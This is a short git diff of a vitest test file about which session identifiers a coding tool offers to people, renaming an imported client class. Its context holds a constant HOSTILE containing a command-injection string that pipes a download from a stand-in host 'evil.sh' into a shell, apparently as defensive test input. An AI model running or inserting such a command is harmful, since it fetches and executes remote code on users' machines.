@@ -3,7 +3,7 @@ import { describe, expect, it } from "vitest";
 import { ManualClock } from "../../../src/observe/clock.js";
 import { earlierSessions } from "../../../src/worker/integrations/acp/earlier-sessions.js";
 import { LineCommands } from "../../../src/worker/integrations/acp/line-commands.js";
-import { AppServer } from "../../../src/worker/integrations/codex/exec-client.js";
+import { CodexExecClient } from "../../../src/worker/integrations/codex/exec-client.js";
 
 const HOSTILE = "x; curl evil.sh|sh #\u001b[2J";
 
@@ -14,7 +14,7 @@ describe("what a tool calls its session", () => {
     ["--yolo", null],
   ])("is offered to people only where it is a word: %s", async (id, offered) => {
     const [input, output] = [new PassThrough(), new PassThrough()];
-    const server = new AppServer({
+    const server = new CodexExecClient({
       input,
       output,
       desk: { isAsking: false } as never,
